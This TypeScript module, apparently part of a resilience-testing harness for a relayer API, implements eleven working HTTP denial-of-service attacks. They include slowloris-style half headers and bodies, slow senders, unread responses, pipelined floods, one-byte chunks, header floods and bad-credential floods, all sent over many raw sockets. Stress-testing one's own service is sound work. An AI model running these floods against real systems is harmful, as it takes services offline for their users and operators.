import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import type { Attack, AttackTarget, RunningAttack } from './attack.ts';

const head = (target: AttackTarget, line: string, ...headers: readonly string[]) =>
  [`${line} HTTP/1.1`, `Host: ${target.url.host}`, ...headers, '', ''].join('\r\n');

/** Bytes of a body as they say, which is the default limit, and as they send. */
const SAID_BYTES = 262_144;
const HALF = Buffer.alloc(SAID_BYTES / 2, 'x');

/** A little less than a head may have, which is never ended. */
const HALF_HEAD = 'x'.repeat(15_000);

/** How often a reader of nothing asks: what fits the buffers of both systems has to be passed first. */
const ASKED_AT_ONCE = 8;

const UNKNOWN_ID = '00000000-0000-7000-8000-000000000000';
const PIPELINED = 50;

/** Chunks of a byte each. */
const TINY_CHUNKS = '1\r\nx\r\n'.repeat(5000);

/** A quarter of what is read at once. */
const SHORT_CALLS = 'GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(600);

/** A hundred bytes of memory each, and five on the way. */
const MANY_FIELDS = Array.from({ length: 900 }, (_, i) => `${i.toString(36)}:`);

const badBody = (target: AttackTarget) =>
  head(target, 'POST /requests', 'Content-Type: application/json', `Content-Length: ${SAID_BYTES}`) +
  'x'.repeat(SAID_BYTES);

const wrongKey = (target: AttackTarget) => head(target, 'GET /admin/stats', `X-Admin-Key: ${'k'.repeat(40)}`);

/** As long as those of a relayer, and of nobody. */
const wrongSignature = (target: AttackTarget) =>
  head(
    target,
    'GET /requests?status=pending',
    `X-Relayer-Address: 0x${'11'.repeat(20)}`,
    `X-Relayer-Signature: 0x${'22'.repeat(64)}1b`,
    `X-Relayer-Timestamp: ${Date.now()}`,
  );

/** The attacks that need no key, by name. */
export const attacks = {
  'half-bodies': {
    summary: 'posts that send half of their body and then nothing',
    start: (target) =>
      openConnections(target, {
        first: () =>
          Buffer.concat([
            Buffer.from(
              head(target, 'POST /requests', 'Content-Type: application/json', `Content-Length: ${SAID_BYTES}`),
            ),
            HALF,
          ]),
        reads: true,
      }),
  },
  'no-readers': {
    summary: 'calls for long answers that nobody reads',
    start: (target) =>
      openConnections(target, {
        first: () => head(target, 'GET /openapi.json').repeat(ASKED_AT_ONCE),
        reads: false,
      }),
  },
  'slow-senders': {
    summary: 'heads and bodies that come a byte a second',
    start: (target) =>
      openConnections(target, {
        first: (place) =>
          place % 2 === 0
            ? `GET /health HTTP/1.1\r\nHost: ${target.url.host}\r\nX-Slow: `
            : head(target, 'POST /requests', 'Content-Type: application/json', 'Content-Length: 10000'),
        again: { text: 'x', everyMs: 1000 },
        reads: true,
      }),
  },
  'half-heads': {
    summary: 'heads of 15 kB that never end',
    start: (target) =>
      openConnections(target, {
        first: () => `GET /health HTTP/1.1\r\nHost: ${target.url.host}\r\nX-Long: ${HALF_HEAD}`,
        reads: true,
      }),
  },
  pipelines: {
    summary: 'fifty calls in one go, again and again',
    start: (target) =>
      openConnections(target, {
        first: () => head(target, `GET /requests/${UNKNOWN_ID}`).repeat(PIPELINED),
        again: { text: head(target, `GET /requests/${UNKNOWN_ID}`).repeat(PIPELINED), everyMs: 1000 },
        reads: true,
      }),
  },
  'tiny-chunks': {
    summary: 'bodies in chunks of one byte',
    start: (target) =>
      openConnections(target, {
        first: (place) =>
          head(target, place % 2 === 0 ? 'POST /requests' : 'GET /health', 'Transfer-Encoding: chunked') + TINY_CHUNKS,
        reads: true,
      }),
  },
  'long-queues': {
    summary: 'hundreds of short calls in one go',
    start: (target) => openConnections(target, { first: () => SHORT_CALLS, reads: true }),
  },
  'many-fields': {
    summary: 'heads of hundreds of fields, one a second',
    start: (target) =>
      openConnections(target, {
        first: () => head(target, 'GET /health', ...MANY_FIELDS),
        again: { text: head(target, 'GET /health', ...MANY_FIELDS), everyMs: 1000 },
        reads: true,
      }),
  },
  'bad-bodies': {
    summary: 'whole bodies of the largest size that are no requests, one a second',
    start: (target) =>
      openConnections(target, {
        first: () => badBody(target),
        again: { text: badBody(target), everyMs: 1000 },
        reads: true,
      }),
  },
  'wrong-keys': {
    summary: "calls with a wrong administrator's key, and with a relayer's signature that is none",
    start: (target) =>
      openConnections(target, {
        first: (place) => (place % 2 === 0 ? wrongKey(target) : wrongSignature(target)),
        again: { text: wrongKey(target) + wrongSignature(target), everyMs: 1000 },
        reads: true,
      }),
  },
  idle: {
    summary: 'connections on which nothing is ever asked',
    start: (target) => openConnections(target, { first: () => '', reads: true }),
  },
} as const satisfies Readonly<Record<string, Attack>>;

export type AttackName = keyof typeof attacks;

/** An attacker's use of a connection. */
interface Behaviour {
  /** Sent as soon as the connection is open. */
  readonly first: (place: number) => string | Buffer;
  /** Sent again and again. */
  readonly again?: { readonly text: string; readonly everyMs: number };
  /** Whether what comes back is read; otherwise it waits in the target. */
  readonly reads: boolean;
}

/** Connections that are being opened at once: more of them overrun the target's queue of new ones. */
const OPENING = 100;
/** How long one may take to open, in milliseconds. */
const OPEN_TIMEOUT_MS = 5000;

const statusLine = /^HTTP\/1\.1 (\d{3})/;

function openSocket({ url, addresses }: AttackTarget, place: number): Socket {
  const isTls = url.protocol === 'https:';
  const port = Number(url.port) || (isTls ? 443 : 80);
  const host = url.hostname.replace(/^\[|\]$/g, '');
  const localAddress = addresses.length === 0 ? undefined : addresses[place % addresses.length];
  const options = { host, port, ...(localAddress !== undefined && { localAddress }) };
  return isTls ? connectTls({ ...options, servername: host }) : connect(options);
}

/** Resolves when the connection is open, or will not open. */
function settle(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const done = () => {
      clearTimeout(timer);
      resolve();
    };
    const timer = setTimeout(done, OPEN_TIMEOUT_MS);
    socket.once('connect', done).once('close', done);
  });
}

/**
 * Opens many raw connections that all behave alike.
 *
 * @param target - what is attacked
 * @param behaviour - what each connection does
 * @returns once each was tried
 */
async function openConnections(target: AttackTarget, behaviour: Behaviour): Promise<RunningAttack> {
  const open = new Set<Socket>();
  const answers = new Map<number, number>();
  let tried = 0;
  let sentBytes = 0;

  function send(socket: Socket, bytes: string | Buffer): void {
    sentBytes += bytes.length;
    socket.write(bytes);
  }

  function readAnswers(socket: Socket): void {
    socket.on('data', (chunk: Buffer) => {
      const status = Number(statusLine.exec(chunk.toString('latin1', 0, 12))?.[1]);
      if (!Number.isNaN(status)) answers.set(status, (answers.get(status) ?? 0) + 1);
    });
  }

  async function openOne(place: number): Promise<void> {
    const socket = openSocket(target, place);
    tried += 1;
    // A target that ends connections resets them.
    socket.on('error', () => undefined);
    socket.once('connect', () => {
      open.add(socket);
      send(socket, behaviour.first(place));
    });
    socket.once('close', () => open.delete(socket));
    if (behaviour.reads) readAnswers(socket);
    else socket.pause();
    await settle(socket);
  }

  for (let place = 0; place < target.connections; place += OPENING) {
    const count = Math.min(OPENING, target.connections - place);
    await Promise.all(Array.from({ length: count }, (_, i) => openOne(place + i)));
  }
  const { again } = behaviour;
  const timer =
    again &&
    setInterval(() => {
      for (const socket of open) send(socket, again.text);
    }, again.everyMs);
  return {
    state: () => ({ tried, open: open.size, sentBytes, answers }),
    async stop() {
      clearInterval(timer);
      for (const socket of open) socket.destroy();
      // Each reports its end in a turn of its own.
      while (open.size > 0) await sleep(1);
    },
  };
}
